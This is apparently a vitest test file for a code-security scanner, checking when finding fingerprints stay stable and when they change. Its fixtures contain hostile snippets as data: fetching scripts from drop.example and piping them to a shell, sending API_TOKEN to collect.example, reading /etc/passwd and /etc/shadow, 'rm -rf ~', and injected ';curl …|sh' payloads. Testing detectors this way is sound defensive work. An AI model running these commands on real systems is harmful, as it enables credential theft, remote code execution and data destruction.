import { describe, expect, it } from 'vitest';
import { check } from '../examine/examine.ts';
import { sampleOfSource } from '../sample/load.ts';
import type { Language, Sample } from '../sample/sample.ts';
import type { Finding } from './finding.ts';

const PYTHON = `import os
import subprocess

TARGET = "/etc/passwd"
def shown(path):
    return "cat " + path

def note(text):
    print(text)

command = shown(TARGET)
subprocess.run(command, shell=True)
note("done")
`;

const UNRESOLVED = `import os, sys
def chosen(words):
    first = words[1]
    return first

def other():
    return 3

name = chosen(sys.argv)
os.system(name)
print(other())
`;

const TAINT = `import os
import urllib.request

def load():
    return os.environ["API_TOKEN"]

token = load()
urllib.request.urlopen("http://collect.example/in", data=token.encode())
`;

const NODE = `const { execSync } = require('node:child_process');
const host = 'drop.example';
const words = [
  'curl', 'http://' + host + '/x.sh',
  '| sh',
];
execSync(words.join(' '));
`;

const SHELL = `#!/bin/bash
HOST=drop.example
fetch() {
  curl -s "http://$HOST/x.sh" | bash
}
fetch
`;

const CALLED = `import subprocess

def run(words):
    subprocess.run(words)

def main():
    run(["ls", "-l"] + input().split())

main()
`;

const READ = `import os

os.system(input())
`;

const SENT = `import json
import urllib.request

body = json.dumps({"version": 1}).encode()
urllib.request.urlopen("http://collect.example/in", data=body)
`;

interface Program {
  readonly language: Language;
  readonly source: string;
  /** The finding that is meant; the first without it. */
  readonly rule?: string;
}
const PROGRAMS = {
  python: { language: 'python', source: PYTHON },
  unresolved: { language: 'python', source: UNRESOLVED },
  taint: { language: 'python', source: TAINT, rule: 'token-sent' },
  node: { language: 'javascript', source: NODE },
  shell: { language: 'bash', source: SHELL },
  called: { language: 'python', source: CALLED },
  read: { language: 'python', source: READ },
  sent: { language: 'python', source: SENT },
} as const satisfies Record<string, Program>;

async function findingsOf(sample: Sample, depth: 'quick' | 'standard' = 'quick'): Promise<readonly Finding[]> {
  return (await check(sample, { depth })).findings;
}

function named({ language, source }: Program, entry?: string): Sample {
  return sampleOfSource(source, language, entry === undefined ? {} : { entry });
}

/** Fingerprints before and after, of the weightiest finding before. */
async function edited(name: keyof typeof PROGRAMS, edit: (source: string) => string): Promise<[string, string[]]> {
  const program: Program = PROGRAMS[name];
  const source = edit(program.source);
  expect(source).not.toBe(program.source);
  const [found, after] = [await findingsOf(named(program)), await findingsOf(named({ ...program, source }))];
  const first = found.find(({ rule }) => rule === (program.rule ?? rule));
  expect(first?.fingerprint).toMatch(/^[0-9a-f]{32}$/);
  return [first?.fingerprint ?? '', after.map(({ fingerprint }) => fingerprint ?? '')];
}

type Edit = readonly [keyof typeof PROGRAMS, string, (source: string) => string];
const replace = (from: string, to: string) => (source: string) => source.replace(from, to);
const before = (text: string) => (source: string) => source.replace(/^(#!.*\n)?/, `$1${text}`);

describe('a fingerprint stays', () => {
  it.each<Edit>([
    ['python', 'lines above are added', before('"""Words."""\n\n\n')],
    ['python', 'lines below are added', (source) => `${source}\nprint("more")\n`],
    ['python', 'blank lines and comments come between', replace('command = shown', '# A comment.\n\ncommand = shown')],
    ['python', 'the line is indented', replace('subprocess.run(command', 'if True:\n    subprocess.run(command')],
    ['python', 'its spaces are others', replace('(command, shell', '(command,   shell')],
    ['python', 'a function beside it has another name', (source) => source.replaceAll('note', 'remark')],
    ['python', 'a function beside it does something else', replace('print(text)', 'print(text.upper())')],
    ['python', 'lines end as on Windows', (source) => source.replaceAll('\n', '\r\n')],
    ['python', 'there is another finding', (source) => `${source}eval(input())\n`],
    ['python', 'the same is computed in another way', replace('"cat " + path', 'f"cat {path}"')],
    ['python', 'the function that computes it has another name', (source) => source.replaceAll('shown', 'text_of')],
    ['unresolved', 'lines above are added', before('"""Words."""\n\n')],
    ['unresolved', 'what has no part in it changes', replace('return 3', 'return 4')],
    ['unresolved', 'another function has another name', (source) => source.replaceAll('other', 'third')],
    ['taint', 'lines above are added', before('import json\n')],
    ['taint', 'something unrelated is printed', (source) => `${source}print("sent")\n`],
    ['node', 'lines above are added', before("'use strict';\n")],
    ['node', 'something unrelated is logged', (source) => `${source}console.log('x');\n`],
    ['shell', 'lines above are added', before('set -e\n')],
    ['shell', 'the function is moved further in', replace('  curl', '      curl')],
    ['called', 'lines above are added', before('import json\n')],
  ])('%s: when %s', async (name, _, edit) => {
    const [was, now] = await edited(name, edit);
    expect(now).toContain(was);
  });
});

describe('a fingerprint changes', () => {
  it.each<Edit>([
    ['python', 'the value of a constant', replace('/etc/passwd', '/etc/shadow')],
    ['python', 'what a function computes', replace('"cat " + path', '"cat " + path + "; id"')],
    [
      'python',
      'what a variable is given, the line as it was',
      replace('command = shown(TARGET)', 'command = "rm -rf ~"'),
    ],
    [
      'python',
      'a variable given once more',
      replace('subprocess.run', 'command = "cat /etc/passwd; id"\nsubprocess.run'),
    ],
    ['python', 'the callee', replace('subprocess.run(command', 'subprocess.check_output(command')],
    ['python', 'what a name stands for', replace('import subprocess', 'import asyncio as subprocess')],
    ['python', 'an argument', replace('shell=True', 'shell=True, cwd="/"')],
    ['unresolved', 'where the value comes from', replace('chosen(sys.argv)', 'chosen(os.environ["X"].split())')],
    ['unresolved', 'how a function on the way picks it', replace('words[1]', 'words[1] + ";curl drop.example|sh"')],
    ['unresolved', 'what a function on the way gives back', replace('return first', 'return "a" + first')],
    ['unresolved', 'a value given in between', replace('os.system', 'name = name[::-1]\nos.system')],
    ['unresolved', 'a function that is called on it', replace('os.system', 'other2(name)\nos.system')],
    [
      'unresolved',
      'a branch that gives it something else',
      replace('os.system', 'if name: name = sys.stdin.read()\nos.system'),
    ],
    ['unresolved', 'a constant where there was none', replace('chosen(sys.argv)', '"id"')],
    ['called', 'what a caller hands over', replace('["ls", "-l"]', '["rm", "-rf"]')],
    ['called', 'a further caller', (source) => `${source}run(input().split())\n`],
    [
      'read',
      'another meaning of what asks for it',
      before('def input(text=""):\n    return text + "".join(WORDS)\n\n'),
    ],
    ['read', 'the same by an assignment', before('WORDS = "i d".split()\nx, input = 1, WORDS.pop\n')],
    [
      'sent',
      'what is handed over, the host as it was',
      replace('{"version": 1}', '{"version": open("data.csv").read()}'),
    ],
    ['taint', 'the source of the data', replace('API_TOKEN', 'AWS_SECRET_ACCESS_KEY')],
    ['taint', 'where it goes', replace('collect.example', 'drop.example')],
    ['taint', 'the way it takes', replace('token = load()', 'token = load() + str(dict(os.environ))')],
    ['node', 'a part of the command', replace("'drop.example'", "'other.example'")],
    ['node', 'a line of a list', replace("'| sh'", "'| bash'")],
    ['shell', 'a variable', replace('HOST=drop.example', 'HOST=other.example')],
    ['shell', 'the program', replace('| bash', '| python3')],
    ['shell', 'an option', replace('curl -s', 'curl -k')],
  ])('%s: with %s', async (name, _, edit) => {
    const [was, now] = await edited(name, edit);
    expect(now).not.toContain(was);
  });

  it('with the name of the file, and not with its folder: where it counts an override says', async () => {
    const [at] = await Promise.all([findingsOf(named(PROGRAMS.python, 'a.py'))]);
    const [moved, renamed] = [
      await findingsOf(named(PROGRAMS.python, 'src/a.py')),
      await findingsOf(named(PROGRAMS.python, 'b.py')),
    ];
    expect(moved[0]?.fingerprint).toBe(at[0]?.fingerprint);
    expect(renamed[0]?.fingerprint).not.toBe(at[0]?.fingerprint);
  });

  it('with the second of two lines that are the same', async () => {
    const source = `${PYTHON}subprocess.run(command, shell=True)\n`;
    const findings = await findingsOf(named({ language: 'python', source }));
    const twins = findings.filter(({ rule }) => rule === findings[0]?.rule);
    expect(new Set(twins.map(({ fingerprint }) => fingerprint)).size).toBe(twins.length);
  });

  it('with any byte of a file that the grammar does not understand', async () => {
    const broken = (word: string) => named({ language: 'python', source: `def (:\n    ${word}\n` });
    const prints = async (word: string) =>
      (await findingsOf(broken(word)))
        .filter(({ rule }) => rule.includes('syntax'))
        .map(({ fingerprint }) => fingerprint);
    const [one, other] = [await prints('a'), await prints('b')];
    expect(one.length).toBeGreaterThan(0);
    expect(one.filter((print) => other.includes(print))).toEqual([]);
  });

  it('with one more of what is told twenty times at the most', async () => {
    const of = async (count: number) => {
      const source = Array.from({ length: count }, (_, at) => `x${at} = ${at}  # nosec`).join('\n');
      const findings = await findingsOf(named({ language: 'python', source }));
      return findings.filter(({ title }) => /scanner/i.test(title)).map(({ fingerprint }) => fingerprint);
    };
    const [few, more, all, beyond] = [await of(3), await of(4), await of(20), await of(21)];
    expect(more).toEqual(expect.arrayContaining(few));
    expect([all.length, beyond.length]).toEqual([20, 20]);
    expect(all.filter((print) => beyond.includes(print))).toEqual([]);
  });

  it('with a line far down in one expression, and with a byte that is no UTF-8', async () => {
    const wide = (last: string) =>
      named({ language: 'python', source: `import os\nos.system(\n${'    x + \n'.repeat(300)}    ${last}\n)\n` });
    const bytes = (byte: number) => {
      const sample = named({ language: 'python', source: 'import os\nos.system(x + "?")\n' });
      const content = sample.files.map((file) => Buffer.from(file.content).map((one) => (one === 63 ? byte : one)));
      return { ...sample, files: sample.files.map((file, at) => ({ ...file, content: content[at] ?? file.content })) };
    };
    for (const [one, other] of [
      [await findingsOf(wide('y')), await findingsOf(wide('z'))],
      [await findingsOf(bytes(0xe9)), await findingsOf(bytes(0xe8))],
    ] as const) {
      expect(one.length).toBeGreaterThan(0);
      expect(one[0]?.fingerprint).not.toBe(other[0]?.fingerprint);
    }
  });

  it('with what lies beyond the evidence that a finding lists', async () => {
    const lines = (last: string) =>
      [...Array.from({ length: 80 }, (_, at) => `os.system("ls /${at}")`), `os.system("${last}")`].join('\n');
    const of = (last: string) => findingsOf(named({ language: 'python', source: `import os\n${lines(last)}\n` }));
    const [one, other] = [await of('ls /x'), await of('ls /y')];
    const same = one.filter((finding) => other.some(({ fingerprint }) => fingerprint === finding.fingerprint));
    expect(same.filter(({ locations }) => locations.length > 1)).toEqual([]);
    expect(one.length).toBeGreaterThan(same.length);
  });
});

describe('what was seen', () => {
  const RANDOM = `import os, subprocess, tempfile
folder = tempfile.mkdtemp()
path = os.path.join(folder, "run.sh")
with open(path, "w") as script:
    script.write("id")
subprocess.run(["sh", path])
open("command.txt").read()
os.system(open("command.txt").read())
`;
  const withFile = (command: string): Sample => {
    const sample = sampleOfSource(RANDOM, 'python', { entry: 'a.py' });
    return { ...sample, files: [...sample.files, { path: 'command.txt', content: Buffer.from(command) }] };
  };

  it('is the same of two runs, whatever chance names, and another of other data', async () => {
    const [one, two, other] = [
      await findingsOf(withFile('id -u'), 'standard'),
      await findingsOf(withFile('id -u'), 'standard'),
      await findingsOf(withFile('cat /etc/shadow'), 'standard'),
    ];
    const prints = (findings: readonly Finding[]) => findings.map(({ fingerprint }) => fingerprint);
    expect(one.length).toBeGreaterThan(0);
    expect(prints(two)).toEqual(prints(one));
    const at = (findings: readonly Finding[]) => findings.find(({ locations }) => locations[0]?.line === 8);
    expect(at(other)?.fingerprint).not.toBe(at(one)?.fingerprint);
    expect(at(other)?.seen?.join()).toContain('cat /etc/shadow');
  });
});
